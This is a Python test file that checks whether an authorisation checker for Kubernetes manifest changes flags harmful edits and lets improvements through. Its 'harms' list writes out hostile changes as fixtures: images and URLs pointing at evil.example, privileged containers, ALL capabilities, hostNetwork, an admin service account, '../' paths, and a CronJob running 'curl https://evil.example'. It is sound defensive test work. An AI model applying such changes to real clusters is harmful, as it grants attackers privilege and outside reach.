"""The list of what may be there can say no: each harm is seen, and each improvement is let through."""

import pytest

from tests.hostile.authority import unauthorised

POD = """apiVersion: apps/v1
kind: Deployment
metadata: {name: api}
spec:
  replicas: 2
  template:
    spec:
      containers:
      - name: api
        image: ghcr.io/corner-shop/api:2.4.1
        env:
        - {name: URL, value: 'http://db'}
"""
PATH = "apps/orders/api.yaml"
BEFORE = {PATH: POD.encode(), "docs/runbook.md": b"# Runbook\n"}


def after(old: str, new: str) -> dict[str, bytes]:
    assert old in POD
    return {**BEFORE, PATH: POD.replace(old, new).encode()}


CONTAINER = "        image:"
HARMS = {
    "another image": after("ghcr.io/corner-shop/api:2.4.1", "evil.example/api:1"),
    "another owner": after("corner-shop", "attacker"),
    "another value": after("http://db", "http://evil.example"),
    "a privilege": after(CONTAINER, "        securityContext: {privileged: true}\n" + CONTAINER),
    "a capability": after(CONTAINER, "        securityContext: {capabilities: {add: [ALL]}}\n" + CONTAINER),
    "escalation": after(CONTAINER, "        securityContext: {allowPrivilegeEscalation: true}\n" + CONTAINER),
    "a command": after(CONTAINER, "        command: [sh]\n" + CONTAINER),
    "the node's network": after("    spec:\n", "    spec:\n      hostNetwork: true\n"),
    "an account": after("    spec:\n", "    spec:\n      serviceAccountName: admin\n"),
    "no replicas": after("replicas: 2", "replicas: 0"),
    "very many replicas": after("replicas: 2", "replicas: 1000000"),
    "all the memory": after(CONTAINER, "        resources: {limits: {memory: 999999999Ti}}\n" + CONTAINER),
    "another kind": after("kind: Deployment", "kind: ClusterRoleBinding"),
    "a probe elsewhere": after(CONTAINER, "        livenessProbe: {httpGet: {port: 1, host: a.example}}\n" + CONTAINER),
    "an annotation": after("{name: api}", "{name: api, annotations: {note: x}}"),
    "an object that goes": {**BEFORE, PATH: b""},
    "a file that goes": {"docs/runbook.md": BEFORE["docs/runbook.md"]},
    "no YAML": {**BEFORE, PATH: b"a: [\n"},
    "a document": {**BEFORE, "docs/runbook.md": b"# Changed\n"},
    "a workflow": {**BEFORE, ".github/workflows/x.yaml": b"on: push\n"},
    "a path with dots": {**BEFORE, "apps/orders/../x.yaml": b"a: b\n"},
    "a right": {**BEFORE, "apps/orders/x.yaml": b"kind: RoleBinding\nmetadata: {name: x}\n"},
    "a secret": {**BEFORE, "apps/orders/x.yaml": b"kind: Secret\nmetadata: {name: x}\n"},
    "a job that calls": {
        **BEFORE,
        "apps/orders/x.yaml": b"kind: CronJob\nmetadata: {name: x}\nspec: {command: 'curl https://evil.example'}\n",
    },
}
IMPROVEMENTS = {
    "nothing": BEFORE,
    "a limit": after(CONTAINER, "        resources: {limits: {memory: 256Mi}, requests: {cpu: 50m}}\n" + CONTAINER),
    "a probe": after(CONTAINER, "        readinessProbe: {httpGet: {path: /ready, port: 8080}}\n" + CONTAINER),
    "hardening": after(
        CONTAINER,
        "        securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n" + CONTAINER,
    ),
    "replicas": after("replicas: 2", "replicas: 3"),
    "a budget": {
        **BEFORE,
        "apps/orders/x.yaml": b"kind: PodDisruptionBudget\nmetadata: {name: x}\nspec: {minAvailable: 1}\n",
    },
}


@pytest.mark.parametrize("tree", HARMS.values(), ids=HARMS)
def test_a_harm_is_seen(tree: dict[str, bytes]) -> None:
    assert unauthorised(BEFORE, tree)


@pytest.mark.parametrize("tree", IMPROVEMENTS.values(), ids=IMPROVEMENTS)
def test_an_improvement_is_let_through(tree: dict[str, bytes]) -> None:
    assert unauthorised(BEFORE, tree) == []
